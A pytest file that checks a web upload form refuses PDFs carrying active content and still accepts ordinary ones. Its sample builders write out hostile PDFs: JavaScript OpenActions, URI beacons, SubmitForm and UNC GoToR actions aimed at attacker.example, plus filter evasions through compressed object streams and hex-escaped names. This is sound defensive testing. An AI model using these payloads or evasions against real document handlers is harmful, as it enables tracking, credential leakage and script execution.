"""PDF active content (break report api-jobs finding 3): each bypass of the old raw-byte check is
built here and posted through the real upload form; each is refused (415) with its reason next
to the files field, leaving no submission, no file row and no stored object. Ordinary PDFs (a
link a person clicks, compressed page content) are still accepted."""
from __future__ import annotations

import io
import re
import struct
import zlib

import pytest

from core.evidence import pdf_active
from core.platform.db import db
from core.platform.models import EvidenceFile, Submission
from tests import pdf_samples
from tests.evidence_support import setup_people, sign_in, stored_keys, yesterday

PAGES = {2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
         3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]/Contents 4 0 R>>"}


classic = pdf_samples.numbered  # plain objects by number, classic xref table


def flate(dictionary: bytes, data: bytes) -> bytes:
    packed = zlib.compress(data)
    return b"<<" + dictionary + b"/Filter/FlateDecode/Length %d>>stream\n" % len(packed) + packed + b"\nendstream"


def with_object_stream(hidden: dict[int, bytes]) -> bytes:
    """The tester's js_xrefstm.pdf shape: `hidden` objects (the catalog among them) inside a
    FlateDecode /ObjStm, found through a compressed XRef stream; the raw bytes name nothing."""
    plain = {**PAGES, 4: flate(b"", b"BT /F1 12 Tf 20 100 Td (Hello) Tj ET")}
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number, body in plain.items():
        offsets[number] = len(out)
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    numbers = sorted(hidden)
    header, body = b"", b""
    for number in numbers:
        header += b"%d %d " % (number, len(body))
        body += hidden[number] + b"\n"
    stm = 10
    offsets[stm] = len(out)
    out += b"%d 0 obj\n" % stm + flate(b"/Type/ObjStm/N %d/First %d" % (len(numbers), len(header)), header + body) + b"\nendobj\n"
    rows = []
    for number in range(12):
        if number in offsets:
            rows.append(struct.pack(">BIH", 1, offsets[number], 0))
        elif number in hidden:
            rows.append(struct.pack(">BIH", 2, stm, numbers.index(number)))
        elif number == 11:
            rows.append(struct.pack(">BIH", 1, len(out), 0))
        else:
            rows.append(struct.pack(">BIH", 0, 0, 65535))
    xref = len(out)
    out += b"11 0 obj\n" + flate(b"/Type/XRef/Size 12/W[1 4 2]/Root 1 0 R", b"".join(rows))
    out += b"\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref
    return bytes(out)


def with_catalog(extra: bytes, objects: dict[int, bytes] | None = None) -> bytes:
    return classic({1: b"<</Type/Catalog/Pages 2 0 R" + extra + b">>", **PAGES,
                    4: flate(b"", b"BT /F1 12 Tf 20 100 Td (Hello) Tj ET"), **(objects or {})})


REFUSED = {
    "JavaScript inside a compressed object stream": (with_object_stream({
        1: b"<</Type/Catalog/Pages 2 0 R/Names<</JavaScript 5 0 R>>/OpenAction 6 0 R>>",
        5: b"<</Names[(x) 6 0 R]>>", 6: b"<</S/JavaScript/JS(app.alert('pwned'))>>"}), "/JavaScript"),
    "OpenAction URI inside a compressed object stream": (with_object_stream({
        1: b"<</Type/Catalog/Pages 2 0 R/OpenAction 6 0 R>>",
        6: b"<</S/URI/URI(http://attacker.example/beacon)>>"}), "/URI action when opened"),
    "OpenAction URI inline": (with_catalog(b"/OpenAction<</S/URI/URI(http://attacker.example/beacon)>>"),
                              "/URI action when opened"),
    "AA with SubmitForm": (with_catalog(b"/AA<</O<</S/SubmitForm/F(http://attacker.example/s)>>>>"), "/AA"),
    "AA with URI (page open)": (classic({1: b"<</Type/Catalog/Pages 2 0 R>>", 2: PAGES[2],
                                         3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/AA<</O 5 0 R>>>>",
                                         5: b"<</S/URI/URI(http://attacker.example/)>>"}), "/AA"),
    "GoToR to a UNC path": (with_catalog(b"/OpenAction 5 0 R",
                                         {5: b"<</S/GoToR/F(\\\\\\\\attacker.example\\\\share\\\\x.pdf)/D[0/Fit]>>"}),
                            "/GoToR action when opened"),
    "hex-escaped names": (with_catalog(b"/OpenAction<</#53/Java#53cript/#4aS(app.alert(1))>>"), "/JavaScript"),
    "hex-escaped OpenAction to GoToR": (with_catalog(b"/Open#41ction<</S/GoTo#52/F(\\\\\\\\h\\\\s\\\\x.pdf)>>"),
                                        "/GoToR action when opened"),
    "Flate stream with JS": (with_catalog(b"/OpenAction 5 0 R",
                                          {5: flate(b"", b"<</S/JavaScript/JS(app.launchURL('http://x'))>>")}),
                             "/JavaScript"),
    "GoTo whose Next runs a URI": (with_catalog(b"/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next 5 0 R>>",
                                                {5: b"<</S/URI/URI(http://attacker.example/)>>"}), "/GoTo action"),
    "GoToE (opens an embedded file)": (with_catalog(b"/OpenAction<</S/GoToE/T<</R/C/N(a.pdf)>>>>"), "/GoToE"),
}


def post(client, name: str, data: bytes):
    return client.post("/submissions/new", data={"activity_code": "EXPLORE", "session_date": yesterday().isoformat(),
                                                 "files": [(io.BytesIO(data), name)]},
                       content_type="multipart/form-data")


def error_next_to_files(html: str) -> str:
    match = re.search(r'<p class="error" id="files-error">(.*?)</p>', html, re.S)
    return match.group(1) if match else ""


def test_each_bypass_is_refused_through_the_form_and_leaves_nothing(app):
    setup_people(app)
    client = app.test_client()
    sign_in(client, "owner")
    for label, (data, reason) in REFUSED.items():
        response = post(client, "evidence.pdf", data)
        html = response.get_data(as_text=True)
        assert response.status_code == 415, label
        assert "scripts or actions that run by themselves" in error_next_to_files(html), label
        assert reason in pdf_active.find(io.BytesIO(data), len(data)).reason, label
    with app.app_context():
        assert db.session.query(Submission).count() == 0 and db.session.query(EvidenceFile).count() == 0
    assert stored_keys(app) == []


def test_the_api_envelope_gives_the_reason_in_details(app):
    from core.evidence.uploads import create_submission
    from core.platform.errors import DomainError
    from tests.evidence_support import incoming

    people = setup_people(app)
    data, _ = REFUSED["AA with SubmitForm"]
    with app.app_context(), pytest.raises(DomainError) as refused:
        create_submission(people["owner"], "EXPLORE", yesterday(), files=[incoming("form.pdf", data)])
    assert refused.value.code == "pdf_active_content" and refused.value.status == 415
    assert refused.value.details == [{"field": "files[0]", "issue": "PDF has additional actions (/AA), which run by themselves"}]


ACCEPTED = {
    "a link a person clicks": classic({
        1: b"<</Type/Catalog/Pages 2 0 R>>", 2: PAGES[2],
        3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]/Contents 4 0 R/Annots[5 0 R]>>",
        4: flate(b"", b"BT /F1 12 Tf 20 100 Td (See our site) Tj ET"),
        5: b"<</Type/Annot/Subtype/Link/Rect[20 90 120 110]/A<</S/URI/URI(https://example.org/)>>>>"}),
    "compressed page content and an opening destination": with_catalog(b"/OpenAction[3 0 R/Fit]"),
    "an OpenAction that only goes to a page": with_catalog(b"/OpenAction 5 0 R", {5: b"<</S/GoTo/D[3 0 R/Fit]>>"}),
    "objects in a compressed object stream with a link": with_object_stream({
        1: b"<</Type/Catalog/Pages 2 0 R>>", 6: b"<</Type/Annot/Subtype/Link/A<</S/URI/URI(https://example.org/)>>>>"}),
}


def test_ordinary_pdfs_are_accepted(app):
    setup_people(app)
    client = app.test_client()
    sign_in(client, "owner")
    for label, data in ACCEPTED.items():
        response = post(client, "ok.pdf", data)
        assert response.status_code == 302, (label, error_next_to_files(response.get_data(as_text=True)))
    with app.app_context():
        assert db.session.query(EvidenceFile).count() == len(ACCEPTED)


def test_object_streams_that_cannot_be_read_are_refused_not_passed():
    good = with_object_stream({1: b"<</Type/Catalog/Pages 2 0 R>>"})
    # The object stream's compressed bytes damaged: it cannot be inflated, so it cannot be checked.
    start = good.index(b"/Type/ObjStm")
    start = good.index(b"stream\n", start) + len(b"stream\n")
    damaged = good[:start] + b"\xff" * 8 + good[start + 8:]
    # A filter we do not decode, and an object stream inflating past the per-stream cap.
    other = classic({1: b"<</Type/Catalog/Pages 2 0 R>>", **PAGES, 4: b"<</Type/ObjStm/N 1/First 4/Filter/LZWDecode"
                                                                      b"/Length 3>>stream\nabc\nendstream"})
    huge = classic({1: b"<</Type/Catalog/Pages 2 0 R>>", **PAGES,
                    4: flate(b"/Type/ObjStm/N 1/First 4", b"1 0 " + b" " * (pdf_active.STREAM_CAP + 10))})
    assert pdf_active.find(io.BytesIO(good), len(good)) is None
    for data, words in ((damaged, "cannot be inflated"), (other, "not plain FlateDecode"), (huge, "inflate past")):
        finding = pdf_active.find(io.BytesIO(data), len(data))
        assert finding.code == "pdf_uncheckable" and words in finding.reason


def test_an_uncheckable_pdf_is_refused_through_the_form(app):
    good = with_object_stream({1: b"<</Type/Catalog/Pages 2 0 R>>"})
    start = good.index(b"stream\n", good.index(b"/Type/ObjStm")) + len(b"stream\n")
    setup_people(app)
    client = app.test_client()
    sign_in(client, "owner")
    response = post(client, "odd.pdf", good[:start] + b"\xff" * 8 + good[start + 8:])
    assert response.status_code == 415
    assert "could not be checked for scripts" in error_next_to_files(response.get_data(as_text=True))
    assert stored_keys(app) == []
